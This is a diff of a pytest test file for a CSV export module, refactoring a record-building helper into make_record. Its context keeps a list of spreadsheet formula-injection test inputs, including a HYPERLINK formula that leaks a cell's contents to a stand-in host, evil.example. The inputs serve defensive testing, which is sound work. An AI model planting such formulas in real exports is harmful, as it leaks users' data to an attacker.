@@ -3,7 +3,6 @@
 import csv
 import io
 import shutil
-from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -13,10 +12,9 @@ from hypothesis import strategies as st
 from core.cli import main
 from core.errors import CoreError
 from core.export import FORMULA_STARTS, export_csv, neutralize, write_csv
-from core.records import COLUMNS, Record, RecordStore
+from core.records import COLUMNS, RecordStore
+from tests.test_records import ORIGINAL_RECORDS, make_record
 
-ORIGINAL_RECORDS = Path("/work/shared/original-app/records-original.csv")
-T0 = datetime(2026, 11, 27, 4, 55, 12, 123456, tzinfo=UTC)
 TEXT_COLUMNS = ("image_caption", "user_text", "combined_input", "label", "caption_source")
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
@@ -33,22 +31,6 @@ ATTACKS = [
     "＝1+1",  # full-width equals sign
 ]
 HARMLESS = ["", "hello", "1+1", "a=b", "'=already quoted", "😀 = joy", "«=»"]
-
-
-def record(chat_id: int | None = 5, text: str = "hello", **changes: object) -> Record:
-    fields: dict[str, object] = {
-        "image_caption": "a dog on a beach",
-        "user_text": text,
-        "combined_input": f"a dog on a beach. {text}",
-        "label": "positive",
-        "score": 0.9854153990745544,
-        "timestamp": T0,
-        "chat_id": chat_id,
-        "user_id": 42,
-        "caption_source": "image",
-    }
-    fields.update(changes)
-    return Record(**fields)  # type: ignore[arg-type]
 
 
 def read_export(path: Path) -> list[dict[str, str]]:
@@ -88,7 +70,7 @@ def test_export_neutralizes_text_cells_and_keeps_numbers(tmp_path: Path) -> None
     path = tmp_path / "records.csv"
     store = RecordStore(path)
     attacks = [
-        record(-1001234, attack, image_caption=attack, combined_input=attack, label=attack)
+        make_record(-1001234, attack, image_caption=attack, combined_input=attack, label=attack)
         for attack in ATTACKS
     ]
     for each in attacks:
@@ -113,7 +95,7 @@ def test_export_neutralizes_text_cells_and_keeps_numbers(tmp_path: Path) -> None
 
 def test_export_is_utf8_with_a_bom_and_crlf_lines(tmp_path: Path) -> None:
     store = RecordStore(tmp_path / "records.csv")
-    store.append(record(text='line one\nline two, «quoted» "too" 😀'))
+    store.append(make_record(text='line one\nline two, «quoted» "too" 😀'))
     out = tmp_path / "export.csv"
     export_csv(store, out)
 
@@ -127,7 +109,7 @@ def test_export_is_utf8_with_a_bom_and_crlf_lines(tmp_path: Path) -> None:
 def test_export_of_one_chat_holds_only_that_chats_records(tmp_path: Path) -> None:
     store = RecordStore(tmp_path / "records.csv")
     for i in range(6):
-        store.append(record(10 + i % 3, f"message {i}"))
+        store.append(make_record(10 + i % 3, f"message {i}"))
 
     out = tmp_path / "chat-11.csv"
     assert export_csv(store, out, chat_id=11) == 2
@@ -155,7 +137,7 @@ def test_export_without_a_records_file_is_just_the_header(tmp_path: Path) -> Non
 
 def test_export_that_cannot_be_written_raises_and_leaves_no_file(tmp_path: Path) -> None:
     store = RecordStore(tmp_path / "records.csv")
-    store.append(record())
+    store.append(make_record())
     with pytest.raises(CoreError, match="Cannot write the export"):
         export_csv(store, tmp_path / "missing-directory" / "export.csv")
     (tmp_path / "export.csv").mkdir()
@@ -173,8 +155,8 @@ def records_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     path = tmp_path / "records.csv"
     monkeypatch.setenv("RECORDS_PATH", str(path))
     store = RecordStore(path)
-    store.append(record(5, "=1+1"))
-    store.append(record(6, "from another chat"))
+    store.append(make_record(5, "=1+1"))
+    store.append(make_record(6, "from another chat"))
     return path
 
 
